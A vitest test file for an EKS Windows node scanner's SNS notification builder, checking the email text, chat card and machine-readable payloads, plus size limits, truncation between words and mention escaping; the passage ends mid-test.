import { describe, expect, it } from 'vitest';
import type { Finding, ScanWarning, Severity } from '../../../../src/evaluate/types.ts';
import { EMAIL_DETAILS, renderEmailTextWithin } from '../../../../src/publish/sns/email.ts';
import {
  buildNotification,
  CHATBOT_LIMITS,
  type ChatbotNotification,
  MAX_MESSAGE_BYTES,
  type MachineReadableNotification,
  messageBytes,
  type ProtocolMessages,
} from '../../../../src/publish/sns/index.ts';
import { MAX_WARNING_CHARS } from '../../../../src/publish/sns/text.ts';
import {
  AMI_UNAVAILABLE_DETAIL,
  makeFinding,
  makeReport,
  noChanges,
  PROTOCOL_KEYS,
  ruleDescription,
  sampleFindings,
  verdict,
} from './fixtures.ts';

function parse(message: string): {
  messages: ProtocolMessages;
  chat: ChatbotNotification;
  machine: MachineReadableNotification;
} {
  const messages = JSON.parse(message) as ProtocolMessages;
  return {
    messages,
    chat: JSON.parse(messages.https) as ChatbotNotification,
    machine: JSON.parse(messages.sqs) as MachineReadableNotification,
  };
}

function jsonContentBytes(text: string): number {
  return messageBytes(JSON.stringify(text)) - 2;
}

/**
 * What one more finding like those shown would add to the message: its block of the email
 * text is there four times, JSON-escaped in `default` and `email`, and escaped twice over
 * (JSON inside JSON) in `sqs` and `lambda`. The smallest block shown stands for it.
 */
function oneMoreFindingBytes(email: string): number {
  const blocks = email.split('\n\n* ').slice(1, -1); // the last one runs into the tail
  const sizes = blocks.map((block) => {
    const text = `\n\n* ${block}`;
    return 2 * jsonContentBytes(text) + 2 * jsonContentBytes(JSON.stringify(text));
  });
  if (sizes.length === 0) throw new Error('The email shows no finding to measure');
  return Math.min(...sizes);
}

const SEVERITY_CYCLE: Severity[] = ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW', 'INFORMATIONAL'];

/** Many findings with realistic text, in report order (most severe first). */
function manyFindings(count: number): Finding[] {
  return Array.from({ length: count }, (_, index) => {
    const severity = SEVERITY_CYCLE[index % SEVERITY_CYCLE.length] ?? 'HIGH';
    return makeFinding({
      severity,
      cluster: `cluster-${index % 7}`,
      resource: {
        type: 'AwsEc2LaunchTemplate',
        id: `lt-${String(index).padStart(17, '0')}`,
        name: `win-${index}`,
      },
      affected: [
        { type: 'AwsAutoScalingAutoScalingGroup', name: `eks-win-${index}-a` },
        { type: 'AwsAutoScalingAutoScalingGroup', name: `eks-win-${index}-b` },
      ],
    });
  }).sort((a, b) => SEVERITY_CYCLE.indexOf(a.severity) - SEVERITY_CYCLE.indexOf(b.severity));
}

describe('Function: buildNotification', () => {
  it('renders an email a person can read: scope, state, counts, findings by severity and cluster', () => {
    // Prepare
    const findings = sampleFindings();
    const report = makeReport({
      findings,
      errors: [
        {
          accountId: '123456789012',
          region: 'us-west-2',
          cluster: 'prod',
          operation: 'DescribeNodegroup',
          code: 'AccessDeniedException',
          message: 'User arn:aws:sts::123456789012:assumed-role/scanner is not authorized',
        },
      ],
    });
    const changes = noChanges({
      newFindingIds: [findings[0]?.id ?? ''],
      resolvedFindingIds: ['dns', 'old-low'],
      resolvedSeverities: { dns: 'HIGH', 'old-low': 'LOW' },
      resolvedTitles: { dns: 'The bootstrap DNS address is outside the service CIDR' },
    });

    // Act
    const { message } = buildNotification({
      report,
      minimumSeverity: 'MEDIUM',
      changes,
      consoleRegion: 'us-west-2',
    });

    // Assess
    const { messages } = parse(message);
    expect(messages.default).toBe(messages.email);
    expect(messages.email).toMatchInlineSnapshot(`
      "EKS Windows node scan: 3 findings at or above MEDIUM (1 CRITICAL, 2 HIGH).
      Since the last run: 1 new, 1 resolved.
      The scan did not complete: the findings below may not be everything.

      Accounts:  123456789012
      Regions:   us-west-2
      Scanned:   2026-11-25 12:00 UTC by eks-windows-scanner 0.1.0
      Inventory: 3 clusters, 7 node sources (5 Windows)
      Findings:  1 CRITICAL, 2 HIGH, 1 LOW, and 1 suppressed
      Scan:      INCOMPLETE, 1 error:
        - DescribeNodegroup, cluster prod: AccessDeniedException


      New since the last run: CRITICAL (1)
      ====================================

      Cluster prod
      ------------

      * [NEW] Windows nodes run Docker on Kubernetes 1.24 or later
        Rule:      docker-runtime-unsupported
        Resource:  Launch template win-2019-docker (lt-0aaa1111bbbb2222c)
        Used by:   Auto Scaling group win-asg-a, Auto Scaling group win-asg-b
        Detail:    Kubernetes removed dockershim in 1.24. Launch template
                   win-2019-docker version 2 starts the bootstrap with
                   -ContainerRuntime docker on a 1.29 cluster.
        Fix:       Remove -ContainerRuntime docker (containerd is the default) or
                   pass -ContainerRuntime containerd, then roll the nodes.


      HIGH, not new (2)
      =================

      Cluster prod
      ------------

      * Windows nodes use an AMI the account can no longer see
        Rule:      ami-unavailable
        Resource:  Launch template win-ng (lt-0abc1234567890def)
        Used by:   Auto Scaling group win-asg
        Detail:    Launch template win-ng version 3 launches from
                   ami-0123456789abcdef0, which DescribeImages no longer returns
                   to this account.
        Fix:       Move the node source to a current EKS optimized Windows AMI and
                   roll the nodes.

      Cluster staging
      ---------------

      * The bootstrap names a different cluster than the one that owns the node
        group
        Rule:      bootstrap-cluster-mismatch
        Resource:  Node group win-staging
        Detail:    Nodes that join the wrong cluster never become Ready in their
                   own. Node group win-staging passes -EKSClusterName prod, but it
                   belongs to cluster staging.
        Fix:       Pass -EKSClusterName with the name of the cluster that owns the
                   node group.


      Resolved since the last run (1)
      ===============================

      * HIGH: The bootstrap DNS address is outside the service CIDR

      1 suppressed finding is not listed. 1 finding below MEDIUM is not listed.

      Security Hub:
      https://us-west-2.console.aws.amazon.com/securityhub/home?region=us-west-2#/findings
      "
    `);
  });

  it('shows the sentence specific to the finding, not the rule description every finding shares', () => {
    // Prepare
    const report = makeReport({ findings: [makeFinding()] });

    // Act
    const { messages, chat } = parse(
      buildNotification({ report, minimumSeverity: 'MEDIUM' }).message,
    );

    // Assess
    const general = ruleDescription('ami-unavailable');
    expect(messages.email.replace(/\s+/g, ' ')).toContain(AMI_UNAVAILABLE_DETAIL);
    expect(messages.email).not.toContain(general.slice(0, 60));
    expect(chat.content.description).toContain(AMI_UNAVAILABLE_DETAIL);
  });

  it('never lists a suppressed finding, in the email or in the chat message', () => {
    // Prepare
    const hidden = makeFinding({
      ruleId: 'docker-runtime-unsupported',
      severity: 'CRITICAL',
      title: 'A suppressed title nobody should read',
      resource: { type: 'AwsEc2LaunchTemplate', id: 'lt-0suppressed', name: 'win-suppressed' },
      suppressed: true,
    });
    const report = makeReport({ findings: [hidden, makeFinding()] });

    // Act
    const { message, subject } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

    // Assess
    expect(message).not.toContain('A suppressed title');
    expect(message).not.toContain('win-suppressed');
    expect(subject).toBe('[eks-windows-scanner] 1 HIGH in 123456789012 us-west-2');
    expect(parse(message).messages.email).toContain('1 suppressed finding is not listed.');
  });

  it('summarises errors by operation, cluster and code, without their messages', () => {
    // Prepare
    const report = makeReport({
      errors: [
        {
          cluster: 'prod',
          operation: 'DescribeLaunchTemplateVersions',
          code: 'UnauthorizedOperation',
          message:
            'Encoded authorization failure message: AbCdEf123 at Object.deserialize (x.js:1)',
        },
      ],
    });

    // Act
    const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

    // Assess
    const { messages, chat } = parse(message);
    expect(messages.email).toContain(
      '  - DescribeLaunchTemplateVersions, cluster prod: UnauthorizedOperation',
    );
    expect(message).not.toContain('AbCdEf123');
    expect(message).not.toContain('deserialize');
    expect(chat.content.keywords).toContain('scan-incomplete');
  });

  it('says why a scan without errors is incomplete: collection stopped at the time limit', () => {
    // Prepare
    const report = makeReport({ complete: false });

    // Act
    const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

    // Assess
    const { messages, chat } = parse(message);
    const why = 'collection stopped at the time limit before the whole scope was read';
    expect(messages.email.replace(/\s+/g, ' ')).toContain(`Scan: INCOMPLETE, ${why}`);
    expect(chat.content.description).toContain(`*Scan incomplete:* ${why}.`);
    expect(message).not.toContain('0 errors');
  });

  it('is a custom notification for Amazon Q Developer in chat applications on https', () => {
    // Prepare
    const findings = sampleFindings();
    const report = makeReport({ findings });

    // Act
    const { message } = buildNotification({
      report,
      minimumSeverity: 'MEDIUM',
      changes: noChanges({ newFindingIds: [findings[1]?.id ?? ''] }),
      consoleRegion: 'us-west-2',
    });

    // Assess
    const { chat } = parse(message);
    expect(chat).toMatchObject({
      version: '1.0',
      source: 'custom',
      content: {
        textType: 'client-markdown',
        title:
          ':red_circle: [eks-windows-scanner] 1 CRITICAL, 2 HIGH (1 new) in 123456789012 us-west-2',
        keywords: ['eks-windows-scanner', 'CRITICAL', 'HIGH'],
      },
      metadata: {
        threadId: 'eks-windows-scanner/123456789012/us-west-2',
        eventType: 'EksWindowsScannerReport',
        relatedResources: ['lt-0aaa1111bbbb2222c', 'lt-0abc1234567890def', 'win-staging'],
        additionalContext: { accounts: '123456789012', complete: 'true', findings: '3' },
      },
    });
    expect(chat.content.description).toContain(':red_circle: *CRITICAL*');
    expect(chat.content.description).toContain(
      '• `prod` · Windows nodes use an AMI the account can no longer see · Launch template `win-ng` _new_',
    );
    expect(chat.content.nextSteps[0]).toBe(
      'Review the findings in <https://us-west-2.console.aws.amazon.com/securityhub/home?region=us-west-2#/findings|Security Hub>',
    );
    expect(chat.content.nextSteps[1]).toMatch(/^\*docker-runtime-unsupported\*: Remove/);
  });

  it('says in the chat card that a run was limited to some clusters, and gives it a thread of its own', () => {
    // Prepare
    const whole = makeReport({ findings: sampleFindings() });
    const limited = { ...whole, scope: { ...whole.scope, clusters: ['blue'] } };

    // Act
    const [wholeChat, limitedChat] = [whole, limited].map(
      (report) =>
        parse(
          buildNotification({
            report,
            minimumSeverity: 'MEDIUM',
            changes: noChanges(),
            consoleRegion: 'us-west-2',
          }).message,
        ).chat,
    );

    // Assess
    expect(limitedChat?.content.description).toContain(
      '*Scope:* `123456789012` · `us-west-2` · only `blue`',
    );
    expect(wholeChat?.content.description).not.toContain(' · only ');
    expect(limitedChat?.metadata.threadId).toBe('eks-windows-scanner/123456789012/us-west-2/blue');
    expect(wholeChat?.metadata.threadId).toBe('eks-windows-scanner/123456789012/us-west-2');
  });

  it('gives SQS and Lambda subscribers one JSON document with the summary, the email text and the chat card', () => {
    // Prepare
    const report = makeReport({ findings: sampleFindings(), complete: false });

    // Act
    const { message, subject } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

    // Assess
    const { messages, chat, machine } = parse(message);
    expect(Object.keys(messages).sort()).toEqual(PROTOCOL_KEYS);
    expect(messages.lambda).toBe(messages.sqs);
    expect(machine).toEqual({
      subject,
      scannedAt: '2026-11-25T12:00:00.000Z',
      complete: false,
      scope: { accounts: ['123456789012'], regions: ['us-west-2'] },
      summary: report.summary,
      email: messages.email,
      chatbot: chat,
    });
    expect(machine.email).toMatch(/^EKS Windows node scan: 3 findings at or above MEDIUM/);
    expect(machine.chatbot).toMatchObject({ version: '1.0', source: 'custom' });
  });

  it('gives SMS subscribers the subject alone, which one text message holds', () => {
    // Prepare: findings enough for an email text far beyond a text message
    const report = makeReport({ findings: manyFindings(200) });

    // Act
    const { subject, message } = buildNotification({ report, minimumSeverity: 'INFORMATIONAL' });

    // Assess: GSM-7 holds 160 characters of ASCII in one message
    const { messages } = parse(message);
    expect(messages.sms).toBe(subject);
    expect(messages.sms).toMatch(/^\[eks-windows-scanner\] \d+ CRITICAL, /);
    expect(messages.sms).toMatch(/^[\x20-\x7e]{1,160}$/);
  });

  it('keeps names from AWS from turning into Slack links, mentions or code breaks', () => {
    // Prepare
    const report = makeReport({
      findings: [
        makeFinding({
          resource: { type: 'AwsAutoScalingAutoScalingGroup', id: 'asg', name: 'x` <!channel> `y' },
        }),
      ],
    });

    // Act
    const { chat } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    expect(chat.content.description).toContain("`x' !channel 'y`");
    expect(chat.content.description).not.toContain('<!channel>');
  });

  it('stays under the size limit with 5,000 findings, dropping the least severe and counting them', () => {
    // Prepare
    const findings = manyFindings(5_000);
    const report = makeReport({ findings });

    // Act
    const { message } = buildNotification({ report, minimumSeverity: 'INFORMATIONAL' });

    // Assess
    expect(messageBytes(message)).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
    const { messages, chat, machine } = parse(message);
    // The space is used well: not even one more finding would have fitted. Each finding here
    // takes about 2.1 KB of the message (its text is there four times), so about 110 fit.
    expect(MAX_MESSAGE_BYTES - messageBytes(message)).toBeLessThan(
      oneMoreFindingBytes(messages.email),
    );
    const shownIds = [...messages.email.matchAll(/\(lt-(\d{17})\)/g)].map((match) => match[1]);
    expect(shownIds.length).toBeGreaterThan(100);
    expect(machine.email).toBe(messages.email);
    expect(shownIds.length).toBeLessThan(5_000);
    expect(messages.email).toContain(
      `${5_000 - shownIds.length} more findings not shown: one message has no room for them.`,
    );
    // What was left out is the least severe: nothing hidden outranks anything shown.
    const shown = new Set(shownIds.map((id) => `lt-${id}`));
    const rank = (finding: Finding) => SEVERITY_CYCLE.indexOf(finding.severity);
    const shownRanks = findings.filter((f) => shown.has(f.resource.id)).map(rank);
    const hiddenRanks = findings.filter((f) => !shown.has(f.resource.id)).map(rank);
    expect(Math.max(...shownRanks)).toBeLessThanOrEqual(Math.min(...hiddenRanks));
    expect(messages.email).toContain('CRITICAL (1000)');
    // The chat message lists ten and counts the rest, within its own limits.
    expect(chat.content.description.length).toBeLessThanOrEqual(CHATBOT_LIMITS.description);
    expect(chat.content.description.match(/^• /gm)).toHaveLength(10);
    expect(chat.content.description).toContain('…and 4990 more findings');
    expect(chat.content.title.length).toBeLessThanOrEqual(CHATBOT_LIMITS.title);
    for (const step of chat.content.nextSteps) {
      expect(step.length).toBeLessThanOrEqual(CHATBOT_LIMITS.nextStep);
    }
  });

  describe('what changed since the last run', () => {
    /** Older HIGH findings, and one new MEDIUM one that ten of them outrank. */
    function oneNewBelowMany(older: number) {
      const high = Array.from({ length: older }, (_, index) =>
        makeFinding({
          severity: 'HIGH',
          resource: {
            type: 'AwsEc2LaunchTemplate',
            id: `lt-${String(index).padStart(17, '0')}`,
            name: `old-${index}`,
          },
        }),
      );
      const added = makeFinding({
        ruleId: 'windows-build-contradicts-ami',
        severity: 'MEDIUM',
        title: 'Running Windows nodes report another Windows build than their AMI is named for',
        resource: { type: 'AwsAutoScalingAutoScalingGroup', id: 'win-new', name: 'win-new' },
      });
      return { findings: [...high, added], added };
    }

    it('lists the new findings first in the email, in sections of their own, and keeps them when it must leave findings out', () => {
      // Prepare
      const { findings, added } = oneNewBelowMany(3_000);
      const report = makeReport({ findings });
      const changes = noChanges({ newFindingIds: [added.id] });

      // Act
      const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM', changes });

      // Assess
      const { messages } = parse(message);
      expect(messages.email.replace(/\s+/g, ' ')).toMatch(/ \d+ more findings not shown/);
      const newSection = messages.email.indexOf('New since the last run: MEDIUM (1)');
      const olderSection = messages.email.indexOf('HIGH, not new (3000)');
      expect(newSection).toBeGreaterThan(0);
      expect(olderSection).toBeGreaterThan(newSection);
      expect(messages.email.indexOf('[NEW] Running Windows nodes report another')).toBeGreaterThan(
        newSection,
      );
      expect(messages.email).toContain('Resource:  Auto Scaling group win-new');
    });

    it('keeps the usual sections when every finding is new, as on a first run', () => {
      // Prepare
      const findings = sampleFindings();
      const changes = noChanges({ newFindingIds: findings.map((finding) => finding.id) });

      // Act
      const { messages } = parse(
        buildNotification({ report: makeReport({ findings }), minimumSeverity: 'MEDIUM', changes })
          .message,
      );

      // Assess
      expect(messages.email).toContain('\nCRITICAL (1)\n');
      expect(messages.email).not.toContain('New since the last run:');
      expect(messages.email).not.toContain('not new');
    });

    it('names a new finding in the chat card though ten older ones outrank it, and counts the new ones left out', () => {
      // Prepare
      const { findings, added } = oneNewBelowMany(12);
      const manyNew = manyFindings(14);
      const changes = noChanges({ newFindingIds: [added.id] });

      // Act
      const card = parse(
        buildNotification({ report: makeReport({ findings }), minimumSeverity: 'MEDIUM', changes })
          .message,
      ).chat;
      const crowded = parse(
        buildNotification({
          report: makeReport({ findings: manyNew }),
          minimumSeverity: 'INFORMATIONAL',
          changes: noChanges({ newFindingIds: manyNew.slice(1).map((finding) => finding.id) }),
        }).message,
      ).chat;

      // Assess
      const description = card.content.description;
      expect(description.match(/^• /gm)).toHaveLength(10);
      expect(description).toContain('`win-new` _new_');
      expect(description).toContain(':large_yellow_circle: *MEDIUM*');
      expect(description).toContain('_…and 3 more findings:_');
      // Thirteen new, ten listed: the one older finding and three new ones are left out.
      expect(crowded.content.description).toContain('_…and 4 more findings (3 of them new):_');
    });

    it('names the findings resolved since the last run in the chat card, most severe first', () => {
      // Prepare
      const resolved = ['r1', 'r2', 'r3', 'r4', 'r5', 'r6', 'r7'];
      const severities: Severity[] = [
        'LOW',
        'MEDIUM',
        'CRITICAL',
        'HIGH',
        'MEDIUM',
        'HIGH',
        'INFORMATIONAL',
      ];
      const changes = noChanges({
        resolvedFindingIds: resolved,
        resolvedSeverities: Object.fromEntries(
          resolved.map((id, index) => [id, severities[index] ?? 'HIGH']),
        ),
        resolvedTitles: Object.fromEntries(resolved.map((id) => [id, `Problem ${id}`])),
      });

      // Act
      const { chat } = parse(
        buildNotification({ report: makeReport(), minimumSeverity: 'MEDIUM', changes }).message,
      );

      // Assess: LOW and INFORMATIONAL are below MEDIUM, so five are resolved
      const lines = chat.content.description.split('\n');
      const start = lines.indexOf(':white_check_mark: *Resolved since the last run*');
      expect(lines.slice(start + 1)).toEqual([
        '• CRITICAL · Problem r3',
        '• HIGH · Problem r4',
        '• HIGH · Problem r6',
        '• MEDIUM · Problem r2',
        '• MEDIUM · Problem r5',
      ]);
      expect(chat.content.description).toContain('*Since the last run:* 0 new, 5 resolved');
    });

    it('counts the resolved findings it has no room to name', () => {
      // Prepare
      const resolved = Array.from({ length: 8 }, (_, index) => `r${index}`);
      const changes = noChanges({
        resolvedFindingIds: resolved,
        resolvedSeverities: Object.fromEntries(resolved.map((id) => [id, 'HIGH'])),
      });

      // Act
      const { chat } = parse(
        buildNotification({ report: makeReport(), minimumSeverity: 'MEDIUM', changes }).message,
      );

      // Assess: a title unknown to the last run is its id
      expect(chat.content.description).toContain('• HIGH · r0');
      expect(chat.content.description.match(/^• HIGH · /gm)).toHaveLength(5);
      expect(chat.content.description).toContain('_…and 3 more resolved findings._');
    });
  });

  it('sends the reader of the findings left out only to the places the message links', () => {
    // Prepare: more findings than the chat card lists, and an email budget for a few of them.
    const report = makeReport({ findings: manyFindings(20) });
    const reportLink = {
      s3Uri: 's3://scans/runs/2026-11-25/',
      consoleUrl: 'https://console.aws.amazon.com/s3/buckets/scans?prefix=runs/2026-11-25/',
    };
    const hub =
      'https://us-west-2.console.aws.amazon.com/securityhub/home?region=us-west-2#/findings';
    const cases = [
      {
        links: {},
        email: 'not shown: one message has no room for them.',
        chat: '_…and 10 more findings:_ see the email.',
      },
      {
        links: { consoleRegion: 'us-west-2' },
        email: 'not shown: see Security Hub (link below).',
        chat: `_…and 10 more findings:_ see the email or <${hub}|Security Hub>.`,
      },
      {
        links: { reportLink },
        email: 'not shown: see the full report (link below).',
        chat: `_…and 10 more findings:_ see the email or the <${reportLink.consoleUrl}|full report>.`,
      },
      {
        links: { reportLink, consoleRegion: 'us-west-2' },
        email: 'not shown: see the full report or Security Hub (links below).',
        chat: `see the email, the <${reportLink.consoleUrl}|full report> or <${hub}|Security Hub>.`,
      },
    ];

    for (const { links, email, chat } of cases) {
      // Act
      const input = { report, minimumSeverity: 'INFORMATIONAL' as const, ...links };
      const text = renderEmailTextWithin(input, 6_000);
      const card = parse(buildNotification(input).message).chat;

      // Assess
      expect(text.replace(/\s+/g, ' ')).toMatch(/ \d+ more findings not shown: /);
      expect(text.replace(/\s+/g, ' ')).toContain(email);
      expect(card.content.description).toContain(chat);
      if (!('consoleRegion' in links)) {
        expect(text).not.toContain('Security Hub');
        expect(card.content.description).not.toContain('Security Hub');
      }
      if (!('reportLink' in links)) expect(text).not.toContain('full report');
    }
  });

  it('counts multi-byte characters as the bytes they take', () => {
    // Prepare: titles of four-byte characters, so characters and bytes differ fourfold
    const findings = manyFindings(3_000).map((finding) => ({
      ...finding,
      title: '𝒲'.repeat(250),
    }));
    const report = makeReport({ findings });

    // Act
    const { message } = buildNotification({ report, minimumSeverity: 'INFORMATIONAL' });

    // Assess
    expect(messageBytes(message)).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
    const { email } = parse(message).messages;
    expect(email).toMatch(/\d+ more findings not shown/);

    // Counted in characters the text would overflow; counted in bytes it still fills the space:
    // not even one more finding would have fitted. A finding here takes about 5.9 KB of the
    // message (1.5 KB of text, there four times), more than the fixed 4 KiB margin this test
    // used when the text was there twice: one finding's worth is what a tight fit may leave.
    expect(MAX_MESSAGE_BYTES - messageBytes(message)).toBeLessThan(oneMoreFindingBytes(email));
  });

  it('keeps the chat card within its limits counted in UTF-16 units, as a Java service counts', () => {
    // Prepare: ten findings' 500 characters of 𝒲 (two units each) would be 10,000 units.
    const findings = manyFindings(10).map((finding) => ({
      ...finding,
      title: '𝒲'.repeat(250),
      description: '𝒲'.repeat(400),
      remediation: '𝒲'.repeat(400),
    }));

    // Act
    const { message } = buildNotification({
      report: makeReport({ findings }),
      minimumSeverity: 'INFORMATIONAL',
    });

    // Assess
    const { chat } = parse(message);
    expect([...chat.content.description].length).toBeLessThan(CHATBOT_LIMITS.description);
    expect(chat.content.description.length).toBeLessThanOrEqual(CHATBOT_LIMITS.description);
    expect(chat.content.nextSteps.length).toBeGreaterThan(0);
    for (const step of chat.content.nextSteps) {
      expect(step.length).toBeLessThanOrEqual(CHATBOT_LIMITS.nextStep);
      expect(step.isWellFormed()).toBe(true);
    }
  });

  /** `cut` (ending in an ellipsis) is `original`'s start, ended between words or sentences. */
  function expectCutBetweenWords(cut: string, original: string): void {
    expect(cut.length).toBeLessThan(original.length);
    expect(cut.endsWith('…')).toBe(true);
    const kept = cut.slice(0, -1).trimEnd();
    expect(original.startsWith(kept)).toBe(true);
    expect(original[kept.length]).toMatch(/[\s,;:]/);
  }

  /** Words, `units` UTF-16 units of them: a sentence no one would want cut mid-word. */
  function sentenceOf(units: number, word = 'nodes'): string {
    const words = Array.from({ length: Math.ceil(units / (word.length + 1)) }, () => word);
    return `${words
      .join(' ')
      .slice(0, units - 1)
      .trimEnd()}.`;
  }

  it("gives each finding's own sentence whole in the chat card, and cuts a longer one between words", () => {
    // Prepare: sentences of 450 and 900 units (the card used to cut at 300, mid-word).
    const [whole, long] = [sentenceOf(450, 'launch'), sentenceOf(900, 'template')];
    const findings = [whole, long].map((detail, index) =>
      makeFinding({
        resource: { type: 'AwsEc2LaunchTemplate', id: `lt-${index}`, name: `win-${index}` },
        description: `${ruleDescription('ami-unavailable')} ${detail}`,
      }),
    );

    // Act
    const { chat } = parse(
      buildNotification({ report: makeReport({ findings }), minimumSeverity: 'MEDIUM' }).message,
    );

    // Assess
    const sentences = chat.content.description
      .split('\n')
      .filter((line) => line.startsWith('   '))
      .map((line) => line.trim());
    expect(sentences[0]).toBe(whole);
    expectCutBetweenWords(sentences[1] ?? '', long);
    expect(sentences[1]?.length).toBeLessThanOrEqual(600);
  });

  it("shortens the findings' sentences, between words, before it lists fewer findings", () => {
    // Prepare: ten findings whose titles and 600-unit sentences would overflow the description.
    const detail = sentenceOf(600);
    const findings = manyFindings(10).map((finding) => ({
      ...finding,
      title: sentenceOf(200, 'title'),
      description: `${ruleDescription('ami-unavailable')} ${detail}`,
    }));

    // Act
    const { chat } = parse(
      buildNotification({ report: makeReport({ findings }), minimumSeverity: 'INFORMATIONAL' })
        .message,
    );

    // Assess
    const { description } = chat.content;
    expect(description.length).toBeLessThanOrEqual(CHATBOT_LIMITS.description);
    expect(description.match(/^• /gm)).toHaveLength(10);
    for (const line of description.split('\n').filter((l) => l.startsWith('   '))) {
      expect(line.trim().length).toBeLessThanOrEqual(300);
      expectCutBetweenWords(line.trim(), detail);
    }
  });

  it("cuts a finding's sentence too long for the email between words", () => {
    // Prepare: past the email's 1,500 characters of a finding's own sentence.
    const detail = sentenceOf(2_000, 'instance');
    const report = makeReport({
      findings: [makeFinding({ description: `${ruleDescription('ami-unavailable')} ${detail}` })],
    });

    // Act
    const { messages } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    const shown = /Detail: {4}(.*?)\n {2}Fix:/s.exec(messages.email)?.[1]?.replace(/\s+/g, ' ');
    expect(shown?.length).toBeLessThanOrEqual(1_500);
    expectCutBetweenWords(shown ?? '', detail);
  });

  it('cuts a next step to its limit between words, never inside one', () => {
    // Prepare: a remediation of one long sentence, past the 350 units of a next step.
    const remediation = sentenceOf(500, 'replace');
    const report = makeReport({ findings: [makeFinding({ remediation })] });

    // Act
    const { chat } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    const [step = ''] = chat.content.nextSteps;
    expect(step.length).toBeLessThanOrEqual(CHATBOT_LIMITS.nextStep);
    expectCutBetweenWords(step, `*ami-unavailable*: ${remediation}`);
  });

  it('stays under the size limit when the text around the findings alone would not fit', () => {
    // Prepare: 600 accounts, 30 errors, 25 blocked clusters with 4 blockers each and 60
    // resolved findings, every name and title as long as AWS allows, in three-byte characters
    const accounts = Array.from({ length: 600 }, (_, index) => String(100000000000 + index));
    const longName = '東'.repeat(255);
    const report = {
      ...makeReport({
        findings: manyFindings(20).map((finding) => ({ ...finding, title: longName })),
        accounts,
        errors: Array.from({ length: 30 }, (_, index) => ({
          accountId: accounts[index] as string,
          region: 'us-west-2',
          cluster: longName,
          operation: 'DescribeNodegroup',
          code: 'AccessDeniedException',
          message: 'not authorized',
        })),
      }),
      readiness: Array.from({ length: 25 }, (_, index) => ({
        ...verdict(`${longName}${index}`, 'blocked', 4),
        blockers: verdict('x', 'blocked', 4).blockers.map((blocker) => ({
          ...blocker,
          resource: { ...blocker.resource, name: longName },
          remediation: longName,
        })),
      })),
    };
    const resolvedFindingIds = Array.from({ length: 60 }, (_, index) => `resolved-${index}`);
    const changes = noChanges({
      resolvedFindingIds,
      resolvedTitles: Object.fromEntries(resolvedFindingIds.map((id) => [id, longName])),
      resolvedSeverities: Object.fromEntries(resolvedFindingIds.map((id) => [id, 'HIGH'])),
    });

    // Act
    const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM', changes });

    // Assess
    expect(messageBytes(message)).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
    const { email } = parse(message).messages;
    expect(email.split('\n')[0]).toMatch(/^EKS Windows node scan: \d+ findings at or above/);
    expect(email).toContain('Scan:      INCOMPLETE, 30 errors');
    // Shortened: ten accounts named, or none.
    expect(email).toMatch(/100000000009 and 590 more\n|Accounts: {2}600 accounts\n/);
    expect(email).toMatch(/and \d+ (more )?resolved findings/);
  });

  it('stays under the size limit with 8,000 accounts, the machine-readable scope naming the first hundred', () => {
    // Prepare: an incomplete run with 5,000 errors and 3,000 verdicts
    const accounts = Array.from({ length: 8_000 }, (_, index) => String(100000000000 + index));
    const report = {
      ...makeReport({
        findings: [makeFinding({ severity: 'HIGH' })],
        accounts,
        errors: accounts.slice(0, 5_000).map((accountId) => ({
          accountId,
          region: 'us-west-2',
          operation: 'AssumeRole',
          code: 'AccessDenied',
          message: 'not authorized',
        })),
      }),
      readiness: Array.from({ length: 3_000 }, (_, index) =>
        verdict(`c${index}`, index % 3 === 0 ? 'blocked' : 'ready', index % 3 === 0 ? 2 : 0),
      ),
    };
    report.scope = { ...report.scope, clusters: ['prod'] };

    // Act
    const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

    // Assess
    expect(messageBytes(message)).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
    const { messages, machine } = parse(message);
    expect(machine.scope.accounts).toEqual(accounts.slice(0, 100));
    expect(machine.scopeAccountsOmitted).toBe(7_900);
    expect(machine.scope.clusters).toEqual(['prod']);
    expect(messages.email).toContain('Scan:      INCOMPLETE, 5000 errors:');

    // And the email's least detail: counts alone, with no list announced that does not follow.
    const least = renderEmailTextWithin(
      { report, minimumSeverity: 'MEDIUM' },
      MAX_MESSAGE_BYTES,
      EMAIL_DETAILS.at(-1),
    );
    expect(least).toContain('Accounts:  8000 accounts');
    expect(least).toContain('Scan:      INCOMPLETE, 5000 errors\n');
    expect(least).not.toMatch(/and \d+ (more )?errors/);
    expect(least).toContain('3000 clusters: 2000 ready, 1000 blocked, 0 not judged');
    expect(least).toContain('Upgrade to 1.36: blocked in 1000 of 3000 clusters.');
  });

  it('names the first ten accounts of a large scope in the chat message and keeps the rest of it', () => {
    // Prepare
    const accounts = Array.from({ length: 600 }, (_, index) => String(100000000000 + index));
    const report = makeReport({
      findings: [makeFinding({ severity: 'CRITICAL' })],
      accounts,
      errors: [
        {
          accountId: '100000000000',
          region: 'us-west-2',
          operation: 'AssumeRole',
          code: 'AccessDenied',
          message: 'not authorized',
        },
      ],
    });

    // Act
    const { chat } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    const lines = chat.content.description.split('\n');
    expect(lines[0]).toBe(
      `*Scope:* ${accounts
        .slice(0, 10)
        .map((account) => `\`${account}\``)
        .join(', ')} and 590 more · \`us-west-2\``,
    );
    expect(chat.content.description).toContain('*Scan incomplete:*');
    expect(chat.content.description).toContain(':red_circle: *CRITICAL*');
  });

  it('shows every finding and no "more" line when they all fit', () => {
    // Prepare
    const report = makeReport({ findings: manyFindings(50) });

    // Act
    const { message } = buildNotification({ report, minimumSeverity: 'INFORMATIONAL' });

    // Assess
    const { messages } = parse(message);
    expect([...messages.email.matchAll(/\(lt-\d{17}\)/g)]).toHaveLength(50);
    expect(messages.email).not.toContain('not shown');
  });

  it('names the account and region of each cluster when the scope has several', () => {
    // Prepare
    const report = makeReport({
